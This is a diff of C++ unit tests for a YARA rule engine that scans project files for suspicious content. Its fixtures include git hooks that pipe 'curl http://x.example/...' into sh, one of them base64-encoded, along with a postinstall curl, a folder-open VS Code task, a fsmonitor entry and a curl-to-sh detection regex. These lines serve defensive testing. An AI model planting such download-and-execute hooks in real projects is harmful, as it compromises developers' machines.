@@ -1,5 +1,7 @@
-// The engine on its own: what the external variables hold, how much of a file the rules see, and
-// files that vanish, block or change while they are scanned.
+// The engine on its own: how much of a file the rules see, the lines a match is on, scopes, and files
+// that vanish, block or change while they are scanned. What each external variable holds is checked by
+// the pack's cases, whose rules use them all; evaluators on many threads by the pack's audit, which
+// runs a worker per core.
 
 #include "TestSupport.h"
 #include "rules/ExternalVariables.h"
@@ -50,70 +52,17 @@ protected:
         return m_engine->makeEvaluator();
     }
 
+    std::set<std::string> namesIn(Evaluator& evaluator, const std::string& file,
+                                  std::vector<std::string> changes = {})
+    {
+        return names(evaluator.evaluate({(m_tree / file).string(), std::move(changes)}));
+    }
+
     TempDir m_rules;
     TempDir m_tree;
     std::unique_ptr<YaraRuleEngine> m_engine;
     int m_count = 0;
 };
-
-TEST(RulesDescribePath, NameAndExtension)
-{
-    struct Row
-    {
-        const char* path;
-        const char* name;
-        const char* extension;
-    };
-    const Row rows[] = {
-        {"/p/.envrc", ".envrc", ""},
-        {"/p/archive.TAR.GZ", "archive.TAR.GZ", "gz"},
-        {"/p/Makefile", "Makefile", ""},
-        {"/p/trailing.", "trailing.", ""},
-        {"/p/.vscode/tasks.json", "tasks.json", "json"},
-        {"/p/dir.d/file", "file", ""},
-        {"relative.yml", "relative.yml", "yml"},
-    };
-    for (const auto& row : rows) {
-        const FileFacts f = describePath(row.path);
-        EXPECT_EQ(f.path, row.path);
-        EXPECT_EQ(f.name, row.name) << row.path;
-        EXPECT_EQ(f.extension, row.extension) << row.path;
-    }
-}
-
-// Each rule reports the severity of its meta; private rules never report.
-TEST_F(RulesEngine, ExternalVariablesDescribeTheFileAndTheChange)
-{
-    const fs::path file = m_tree / "Sample.TXT";
-    writeFile(file, "hello");
-    auto evaluator = evaluatorFor(
-        "rule v_path { meta: severity = \"critical\" condition: filepath == \"" + file.string() +
-        "\" }\n"
-        "rule v_name { meta: severity = \"high\" condition: filename == \"Sample.TXT\" }\n"
-        "rule v_ext { meta: severity = \"warning\" condition: extension == \"txt\" }\n"
-        "rule v_changes { meta: severity = \"warning\" condition: changes == \"created attributes\" }\n"
-        "rule v_exec { meta: severity = \"warning\" condition: is_executable }\n"
-        "rule v_size { meta: severity = \"warning\" condition: file_size == 5 and filesize == 5 }\n"
-        "rule v_whole { meta: severity = \"warning\" condition: not is_truncated }\n"
-        "private rule v_private { condition: true }\n");
-    const auto found = [&](std::vector<std::string> changes) {
-        std::set<std::string> out;
-        for (const auto& m : evaluator->evaluate({file.string(), std::move(changes)}))
-            out.insert(m.rule + " " + m.severity);
-        return out;
-    };
-    const std::set<std::string> always{"v_path critical", "v_name high", "v_ext warning", "v_size warning",
-                                       "v_whole warning"};
-    fs::permissions(file, fs::perms::owner_read | fs::perms::owner_write);
-    auto expected = always;
-    expected.insert("v_changes warning");
-    EXPECT_EQ(found({"created", "attributes"}), expected);
-
-    fs::permissions(file, fs::perms::owner_exec, fs::perm_options::add);
-    expected = always;
-    expected.insert("v_exec warning");
-    EXPECT_EQ(found({"modified"}), expected);
-}
 
 TEST_F(RulesEngine, ContentRulesSeeOnlyTheBoundedPart)
 {
@@ -130,59 +79,26 @@ rule exact { meta: severity = "warning" condition: file_size == 4096 and not is_
     content.replace(0, 10, "EARLY_MARK");
     content.replace(8000, 9, "LATE_MARK");
     writeFile(m_tree / "large", content);
-    EXPECT_EQ(names(evaluator->evaluate({(m_tree / "large").string(), {"modified"}})),
-              (std::set<std::string>{"early", "cut", "big"}));
-
+    EXPECT_EQ(namesIn(*evaluator, "large"), (std::set<std::string>{"early", "cut", "big"}));
     writeFile(m_tree / "exact", std::string(bound, 'y'));
-    EXPECT_EQ(names(evaluator->evaluate({(m_tree / "exact").string(), {"modified"}})),
-              (std::set<std::string>{"exact"}));
+    EXPECT_EQ(namesIn(*evaluator, "exact"), std::set<std::string>{"exact"});
 }
 
-// A string across the edge of two windows: the "across.js" row of the lines table below.
-TEST_F(RulesEngine, ScriptsAreReadWholeAndAssetsAndExecutablesOverTheirHead)
+// Scripts are read whole (the pack's cases grown past the first MiB check that through twwatch);
+// assets and compiled executables only over their head.
+TEST_F(RulesEngine, AssetsAndExecutablesAreReadOverTheirHead)
 {
-    auto evaluator =
-        evaluatorFor(R"(rule late { meta: severity = "warning" strings: $a = "LATE_MARK" condition: $a }
-rule cut { meta: severity = "warning" condition: is_truncated }
-)");
+    auto evaluator = evaluatorFor("rule cut { meta: severity = \"warning\" condition: is_truncated }\n");
     std::string content(3 * kHeadBound, 'x');
-    content.replace(content.size() - 100, 9, "LATE_MARK");
-    writeFile(m_tree / "bundle.js", content);
     writeFile(m_tree / "image.png", content);
-    content.replace(0, 4,
-                    "\x7f"
-                    "ELF");
+    content.replace(0, 4, "\177ELF");
     writeFile(m_tree / "esbuild", content);
-    const std::pair<const char*, const char*> rows[] = {
-        {"bundle.js", "late"}, {"image.png", "cut"}, {"esbuild", "cut"}};
-    for (const auto& [name, rule] : rows)
-        EXPECT_EQ(names(evaluator->evaluate({(m_tree / name).string(), {}})), std::set<std::string>{rule})
-            << name;
+    for (const char* name : {"image.png", "esbuild"})
+        EXPECT_EQ(namesIn(*evaluator, name), std::set<std::string>{"cut"}) << name;
 }
 
-TEST_F(RulesEngine, EachViewIsScannedAndARuleReportsOnce)
-{
-    auto evaluator = evaluatorFor(
-        R"(rule in_text { meta: severity = "high" strings: $a = "curl -fsSL" condition: $a and view == "text" }
-rule anywhere { meta: severity = "warning" strings: $a = "curl" condition: $a }
-rule raw_only { meta: severity = "warning" condition: view == "raw" }
-)");
-    std::string utf16 = "\xFF\xFE";
-    for (char c : std::string("curl -fsSL x | sh\r\n")) {
-        utf16 += c;
-        utf16 += '\0';
-    }
-    writeFile(m_tree / "run.sh", utf16);
-    const auto matches = evaluator->evaluate({(m_tree / "run.sh").string(), {}});
-    EXPECT_EQ(names(matches), (std::set<std::string>{"in_text", "anywhere", "raw_only"}));
-    EXPECT_EQ(matches.size(), 3u) << "a rule matching in several views is one line";
-
-    writeFile(m_tree / "plain.sh", "curl -fsSL x | sh\n");
-    EXPECT_EQ(names(evaluator->evaluate({(m_tree / "plain.sh").string(), {}})),
-              (std::set<std::string>{"anywhere", "raw_only"}))
-        << "no text view when the raw bytes already are the text";
-}
-
+// The line each match is on, in every window and view (the text view's, end to end, in the loading
+// test); a rule matching in several views is one match.
 TEST_F(RulesEngine, MatchesCarryTheRuleDescriptionAndTheirLines)
 {
     auto evaluator = evaluatorFor(
@@ -191,25 +107,21 @@ rule counted { meta: severity = "warning" strings: $a = "MARK" condition: #a > 1
 rule in_config { meta: severity = "high" strings: $a = "a.b = MARK" condition: $a and view == "config" }
 rule by_name { meta: severity = "warning" condition: filename == "named.txt" }
 rule number_in_config { meta: severity = "high" strings: $a = "a.n = 7" condition: $a and view == "config" }
-rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: $a and view == "commands" }
+rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: #a > 0 and view == "commands" }
 private rule payload { strings: $a = /curl [^\n]*\| ?sh/ condition: $a }
 rule via_private { meta: severity = "high" condition: payload and view == "commands" }
 )");
-    const std::string lines100 = [] {
-        std::string s;
-        for (int i = 0; i < 30000; ++i)
-            s += std::string(99, 'x') + '\n'; // line i + 1 starts at i * 100
-        return s;
-    }();
+    std::string lines100;
+    for (int i = 0; i < 30000; ++i)
+        lines100 += std::string(99, 'x') + '\n'; // line i + 1 starts at i * 100
     const auto withMark = [&](std::size_t at) { return std::string(lines100).replace(at, 4, "MARK"); };
-    std::string utf16 = "\xFF\xFE";
-    for (char c : std::string("one\r\ntwo MARK\r\n")) {
-        utf16 += c;
-        utf16 += '\0';
-    }
+    const auto lineAt = [](std::size_t at) { return static_cast<std::uint32_t>(at / 100 + 1); };
     std::string many;
     for (int i = 0; i < 40; ++i)
         many += "MARK\n";
+    const std::string hook =
+        "#!/bin/sh\ncurl http://x.example/MARK | sh\nset -e\ncurl -s \\\n  http://x.example/MARK "
+        "\\\n  | sh\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n";
     struct Row
     {
         const char* file;
@@ -217,80 +129,44 @@ rule via_private { meta: severity = "high" condition: payload and view == "comma
         const char* rule;
         std::vector<std::uint32_t> lines; // empty: no lines
     };
-    const std::size_t window = kHeadBound, overlap = kWindowOverlap;
+    const std::size_t across = kHeadBound - 2, overlap = kHeadBound - kWindowOverlap / 2;
     const Row rows[] = {
-        {"first.txt", "MARK\nx\n", "described", {1}},
         {"late.js", withMark(20000 * 100 + 3), "described", {20001}},
-        {"across.js",
-         withMark(window - 2),
-         "described",
-         {static_cast<std::uint32_t>((window - 2) / 100 + 1)}},
-        {"overlap.js",
-         withMark(window - overlap / 2),
-         "described",
-         {static_cast<std::uint32_t>((window - overlap / 2) / 100 + 1)}},
-        // Only strings the condition counts are followed past their first match.
+        {"across.js", withMark(across), "described", {lineAt(across)}},
+        {"overlap.js", withMark(overlap), "described", {lineAt(overlap)}},
+        // Only strings the condition counts are followed past their first match (`via_private` below).
         {"many.txt", many, "counted", {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}},
-        {"many.txt", many, "described", {1}},
-        {"utf16.txt", utf16, "described", {2}},
         // Derived views: the line each leaf or command came from.
-        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "in_config", {1}},
-        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "described", {1}},
         {"c.json", "{\n \"x\": [],\n \"a\": {\n  \"b\": \"MA\\u0052K\"\n }\n}\n", "in_config", {4}},
         // The reader looks past a number, here at the line end.
         {"c.json", "{\n \"a\": {\n  \"n\": 7\n }\n}\n", "number_in_config", {3}},
-        {"c.yaml", "x: 1\na:\n  b: \"MA\\x52K\"\n", "in_config", {3}},
+        // The format is known by the extension, whatever its case.
+        {"c.YAML", "x: 1\na:\n  b: \"MA\\x52K\"\n", "in_config", {3}},
         {"c.toml", "x = 1\n[a]\nb = \"MA\\u0052K\"\n", "in_config", {3}},
         {"c.ini", "; c\n[a]\nb = MARK\n", "in_config", {3}},
-        {".git/hooks/pre-commit", "#!/bin/sh\ncurl http://x.example/MARK | sh\n", "in_commands", {2}},
-        {".git/hooks/pre-commit", "#!/bin/sh\ncurl http://x.example/MARK | sh\n", "via_private", {2}},
-        {".git/hooks/post-merge",
-         "#!/bin/sh\nset -e\ncurl -s \\\n  http://x.example/MARK \\\n  | sh\n",
-         "in_commands",
-         {3}},
-        // The decoded payload, listed under its command.
-        {".git/hooks/pre-push",
-         "#!/bin/sh\necho ok\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n",
-         "in_commands",
-         {3}},
-        {"p/package.json",
-         "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl "
-         "MARK\"\n  }\n}\n",
-         "in_commands",
-         {5}},
-        {"m/package.json", R"({"scripts":{"test":"jest","postinstall":"curl MARK"}})", "in_commands", {1}},
-        {".vscode/tasks.json",
-         "{\n \"version\": \"2.0.0\",\n \"tasks\": [\n  {\n   \"label\": \"x\",\n   \"command\": \"curl "
-         "MARK\",\n"
-         "   \"runOptions\": {\"runOn\": \"folderOpen\"}\n  }\n ]\n}\n",
-         "in_commands",
-         {6}},
-        {".github/workflows/ci.yml",
-         "on: push\njobs:\n  a:\n    steps:\n      - uses: x\n      - run: curl MARK\n",
-         "in_commands",
-         {6}},
+        // A command's first line, for a continued one too; a decoded payload is listed under its command.
+        {".git/hooks/post-merge", hook, "in_commands", {2, 4, 7}},
+        {".git/hooks/post-merge", hook, "via_private", {2}},
         // A literal block keeps the file's lines; a folded one is one line, its first.
-        {".github/workflows/b.yml",
-         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n\n          curl MARK\n",
+        {".github/workflows/ci.yml",
+         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n\n          curl MARK\n"
+         "      - run: >\n          npm ci\n          curl MARK\n",
          "in_commands",
-         {8}},
-        {".github/workflows/c.yml",
-         "on: push\njobs:\n  a:\n    steps:\n      - run: >\n          npm ci\n          curl MARK\n",
-         "in_commands",
-         {6}},
+         {8, 10}},
         {".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./MARK.sh\n", "in_commands", {3}},
         {"named.txt", "x", "by_name", {}},
     };
     for (const auto& row : rows) {
-        std::filesystem::create_directories((m_tree / row.file).parent_path());
+        SCOPED_TRACE(std::string(row.rule) + " on " + row.file);
+        fs::create_directories((m_tree / row.file).parent_path());
         writeFile(m_tree / row.file, row.content);
         const auto matches = evaluator->evaluate({(m_tree / row.file).string(), {"modified"}});
+        EXPECT_EQ(names(matches).size(), matches.size()) << "a rule reported twice";
         const auto match = std::find_if(matches.begin(), matches.end(),
                                         [&](const RuleMatch& m) { return m.rule == row.rule; });
-        ASSERT_NE(match, matches.end()) << row.rule << " on " << row.file;
-        EXPECT_EQ(match->lines, row.lines) << row.rule << " on " << row.file;
-        EXPECT_EQ(match->description, std::string(row.rule) == "described" ? "says \"why\"" : "")
-            << row.rule << " on " << row.file;
+        ASSERT_NE(match, matches.end());
+        EXPECT_EQ(match->lines, row.lines);
+        EXPECT_EQ(match->description, std::string(row.rule) == "described" ? "says \"why\"" : "");
     }
 }
 
@@ -300,14 +176,12 @@ TEST_F(RulesEngine, VanishedBlockingAndNonRegularFilesMatchNothingLinksOnlyByPat
     ASSERT_EQ(::mkfifo((m_tree / "fifo").c_str(), 0644), 0);
     fs::create_directories(m_tree / "dir");
     fs::create_symlink(m_tree / "missing", m_tree / "dangling");
-    const std::vector<fs::path> paths{m_tree / "gone", m_tree / "fifo", m_tree / "dir", "/dev/zero"};
-    for (const auto& p : paths)
+    for (const fs::path& p : {m_tree / "gone", m_tree / "fifo", m_tree / "dir", fs::path("/dev/zero")})
         EXPECT_TRUE(evaluator->evaluate({p.string(), {"deleted"}}).empty()) << p;
-    // A link is judged by its own path, whatever it points at (nothing, here).
-    EXPECT_EQ(evaluator->evaluate({(m_tree / "dangling").string(), {"created"}}).size(), 1u);
+    // A link is judged by its own path, whatever it points at (nothing, here); an empty file is a file.
     writeFile(m_tree / "real", "");
-    EXPECT_EQ(evaluator->evaluate({(m_tree / "real").string(), {"created"}}).size(), 1u)
-        << "an empty file is a file";
+    for (const char* name : {"dangling", "real"})
+        EXPECT_EQ(namesIn(*evaluator, name, {"created"}), std::set<std::string>{"any_file"}) << name;
     // Modes mean nothing to root.
     if (::geteuid() != 0) {
         fs::permissions(m_tree / "real", fs::perms::none);
@@ -322,9 +196,8 @@ TEST_F(RulesEngine, VanishedBlockingAndNonRegularFilesMatchNothingLinksOnlyByPat
 // the two the file's contents allow.
 TEST_F(RulesEngine, FileChangingDuringScansIsHandled)
 {
-    auto evaluator =
-        evaluatorFor(R"(rule marked { meta: severity = "high" strings: $a = "PAYLOAD" condition: $a }
-)");
+    auto evaluator = evaluatorFor("rule marked { meta: severity = \"high\" strings: $a = \"PAYLOAD\" "
+                                  "condition: $a }\n");
     const fs::path file = m_tree / "churn.js";
     std::string content(256 * 1024, 'a');
     content.replace(200 * 1024, 7, "PAYLOAD");
@@ -341,111 +214,70 @@ TEST_F(RulesEngine, FileChangingDuringScansIsHandled)
         ASSERT_LE(evaluator->evaluate({file.string(), {"modified"}}).size(), 1u);
     stop = true;
     writer.join();
-    EXPECT_EQ(evaluator->evaluate({file.string(), {"modified"}}).size(), 0u)
-        << "left truncated before the mark";
+    EXPECT_TRUE(namesIn(*evaluator, "churn.js").empty()) << "left truncated before the mark";
 }
 
-// One evaluator per thread over the same compiled rules gives every thread the same answers.
-TEST_F(RulesEngine, EvaluatorsOnManyThreadsShareTheRules)
-{
-    evaluatorFor(
-        R"(rule marked { meta: severity = "high" strings: $a = "PAYLOAD" condition: $a and extension == "js" }
-)");
-    for (int i = 0; i < 40; ++i)
-        writeFile(m_tree / ("f" + std::to_string(i) + (i % 2 ? ".js" : ".txt")),
-                  i % 4 < 2 ? "PAYLOAD" : "clean");
-    std::atomic<int> wrong{0};
-    std::vector<std::thread> threads;
-    for (int t = 0; t < 4; ++t) {
-        threads.emplace_back([&] {
-            auto evaluator = m_engine->makeEvaluator();
-            for (int round = 0; round < 25; ++round) {
-                for (int i = 0; i < 40; ++i) {
-                    const bool expected = i % 2 == 1 && i % 4 < 2;
-                    const auto m = evaluator->evaluate(
-                        {(m_tree / ("f" + std::to_string(i) + (i % 2 ? ".js" : ".txt"))).string(),
-                         {"modified"}});
-                    if (m.empty() == expected)
-                        ++wrong;
-                }
-            }
-        });
-    }
-    for (auto& t : threads)
-        t.join();
-    EXPECT_EQ(wrong.load(), 0);
-}
-
+// A missing file and the rules without a proper severity are refused, an empty file is no error; the
+// rest loads. (A broken file is named and skipped in the loading test.)
 TEST(RulesCompilation, BrokenFileAndRefusedRulesDoNotStopTheRest)
 {
     ASSERT_TRUE(yara::ensureInitialized());
     TempDir dir;
-    writeFile(dir / "broken.yar", "rule oops { condition: nosuchvar }\n");
-    writeFile(dir / "mixed.yar", "rule fine { meta: severity = \"high\" condition: true }\n"
-                                 "rule bare { condition: true }\n");
+    const std::vector<std::string> refused{"bare", "capitalised", "padded", "unknown_word", "not_a_string"};
+    writeFile(dir / "mixed.yar", "rule critical_ok { meta: severity = \"critical\" condition: true }\n"
+                                 "rule high_ok { meta: severity = \"high\" condition: true }\n"
+                                 "rule warning_ok { meta: severity = \"warning\" condition: true }\n"
+                                 "rule bare { meta: author = \"x\" condition: true }\n"
+                                 "rule capitalised { meta: severity = \"High\" condition: true }\n"
+                                 "rule padded { meta: severity = \"high \" condition: true }\n"
+                                 "rule unknown_word { meta: severity = \"info\" condition: true }\n"
+                                 "rule not_a_string { meta: severity = 3 condition: true }\n");
     writeFile(dir / "empty.yar", "");
     std::ostringstream diag;
-    const CompileOutcome outcome = compileRuleFiles(
-        {dir / "broken.yar", dir / "mixed.yar", dir / "empty.yar", dir / "absent.yar"}, diag);
-    ASSERT_EQ(outcome.files.size(), 4u);
-    EXPECT_FALSE(outcome.files[0].compiled);
-    EXPECT_NE(diag.str().find((dir / "broken.yar").string() + ":1: undefined identifier \"nosuchvar\""),
-              std::string::npos)
-        << diag.str();
+    const CompileOutcome outcome =
+        compileRuleFiles({dir / "mixed.yar", dir / "empty.yar", dir / "absent.yar"}, diag);
+    ASSERT_EQ(outcome.files.size(), 3u);
+    EXPECT_TRUE(outcome.files[0].compiled);
+    EXPECT_EQ(outcome.files[0].refusedRules, refused);
     EXPECT_TRUE(outcome.files[1].compiled);
-    EXPECT_EQ(outcome.files[1].loadedRules, std::vector<std::string>{"fine"});
-    EXPECT_EQ(outcome.files[1].refusedRules, std::vector<std::string>{"bare"});
-    EXPECT_TRUE(outcome.files[2].compiled);
-    EXPECT_FALSE(outcome.files[3].compiled);
-    EXPECT_EQ(outcome.loadedRuleCount(), 1u);
+    EXPECT_FALSE(outcome.files[2].compiled);
     EXPECT_FALSE(outcome.allAccepted());
 
     writeFile(dir / "x", "x");
     YaraRuleEngine engine(outcome.sets, kContentBound);
     EXPECT_EQ(names(engine.makeEvaluator()->evaluate({(dir / "x").string(), {}})),
-              (std::set<std::string>{"fine"}));
+              (std::set<std::string>{"critical_ok", "high_ok", "warning_ok"}));
 }
 
 } // namespace
 
+// The pack's scoped files exercise names, extensions, folders and exclusions through its cases; these
+// rows are the edges they do not reach.
 TEST(RulesPathScope, PatternsMatchNamesAndPaths)
 {
     const PathScope scope = PathScope::fromRuleText("// A pack about manifests\n"
-                                                    "//   twwatch-scope: package.json *.code-workspace\n"
+                                                    "//   twwatch-scope: package.json *.js !*.min.js\n"
                                                     "rule x { condition: true } // twwatch-scope: Makefile\n"
                                                     "// twwatch-scope:   */.github/workflows/*\n");
-    EXPECT_EQ(scope.describe(), "package.json *.code-workspace */.github/workflows/*");
+    EXPECT_EQ(scope.describe(), "package.json *.js !*.min.js */.github/workflows/*");
+    EXPECT_TRUE(PathScope::fromRuleText("rule x { condition: true }").isEverything());
     struct Row
     {
         const char* path;
         bool inside;
     };
     const Row rows[] = {
-        {"/p/package.json", true},
-        {"/p/node_modules/a/package.json", true},
         {"/p/package.json.bak", false},
-        {"/p/app.code-workspace", true},
-        {"/p/.github/workflows/ci.yml", true},
         {"/p/.github/workflows/deep/ci.yml", true},
         {"/p/.github/ci.yml", false},
         {"/p/Makefile", false}, // a scope line must be a comment line of its own
-        {"/p/Package.json", false},
+        {"/p/a.js", true},
+        {"/p/a.min.js", false},
     };
     for (const auto& row : rows) {
         const FileFacts f = describePath(row.path);
         EXPECT_EQ(scope.contains(f.path, f.name), row.inside) << row.path;
     }
-    const PathScope exceptDocs = PathScope::fromRuleText("// twwatch-scope: !*.md !*/docs/*\n");
-    EXPECT_FALSE(exceptDocs.isEverything());
-    EXPECT_TRUE(exceptDocs.contains("/p/run.sh", "run.sh"));
-    EXPECT_FALSE(exceptDocs.contains("/p/README.md", "README.md"));
-    EXPECT_FALSE(exceptDocs.contains("/p/docs/run.sh", "run.sh"));
-    const PathScope jsNotMin = PathScope::fromRuleText("// twwatch-scope: *.js !*.min.js\n");
-    EXPECT_TRUE(jsNotMin.contains("/p/a.js", "a.js"));
-    EXPECT_FALSE(jsNotMin.contains("/p/a.min.js", "a.min.js"));
-    EXPECT_FALSE(jsNotMin.contains("/p/a.py", "a.py"));
-    EXPECT_TRUE(PathScope::fromRuleText("rule x { condition: true }").isEverything());
-    EXPECT_TRUE(PathScope::fromRuleText("rule x { condition: true }").contains("/any", "any"));
 }
 
 // A scoped file's rules speak only inside its scope and unscoped files everywhere, in the same order,
@@ -472,18 +304,11 @@ TEST_F(RulesEngine, ScopedRuleFilesSeeOnlyTheirPaths)
             out.push_back(m.rule + " " + m.severity);
         return out;
     };
-    struct Row
-    {
-        RuleGrouping grouping;
-        std::size_t sets;
-    };
-    for (const Row row : {Row{RuleGrouping::PerScope, 3}, Row{RuleGrouping::OneSet, 1}}) {
-        SCOPED_TRACE(row.sets);
+    for (const auto grouping : {RuleGrouping::PerScope, RuleGrouping::OneSet}) {
+        SCOPED_TRACE(static_cast<int>(grouping));
         std::ostringstream diag;
-        CompileOutcome outcome = compileRuleFiles({scoped, locks, everywhere}, diag, row.grouping);
-        EXPECT_EQ(outcome.sets.size(), row.sets);
-        EXPECT_EQ(outcome.files[0].scope.describe(), "package.json");
-        EXPECT_EQ(outcome.files[0].refusedRules, std::vector<std::string>{"in_scope_refused"});
+        CompileOutcome outcome = compileRuleFiles({scoped, locks, everywhere}, diag, grouping);
+        EXPECT_EQ(outcome.sets.size(), grouping == RuleGrouping::PerScope ? 3u : 1u);
         YaraRuleEngine engine(outcome.sets, kContentBound);
         auto evaluator = engine.makeEvaluator();
         EXPECT_EQ(found(*evaluator, "package.json"),
